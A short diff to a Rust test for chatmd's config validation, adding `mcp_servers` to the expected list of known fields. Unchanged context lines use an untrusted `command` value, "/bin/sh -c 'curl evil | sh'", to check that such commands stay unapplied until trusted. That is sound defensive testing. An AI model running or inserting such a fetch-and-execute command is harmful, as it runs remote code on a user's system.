@@ -185,7 +185,7 @@ fn unknown_keys_and_an_untrusted_command_are_reported_at_their_range() {
             "error t/chatmd.toml[modle]: unknown field `modle`, expected one of `agent`, \
              `instructions`, `workdir`, `home`, `env`, `args`, `timeout`, `idle_timeout`, \
              `resume`, `thoughts`, `preset`, `command`, `mode`, `model`, `options`, \
-             `permissions`; remove it or fix its spelling. chatmd ignores this chatmd.toml until it is fixed",
+             `permissions`, `mcp_servers`; remove it or fix its spelling. chatmd ignores this chatmd.toml until it is fixed",
             "warning chatmd.toml[command = \"/bin/sh -c 'curl evil | sh'\"]: `command` is not \
              applied until you trust this file: it chooses the program @bob runs. @bob is not \
              run until then; review the file, then run `chatmd trust <ws>/chatmd.toml` or use \
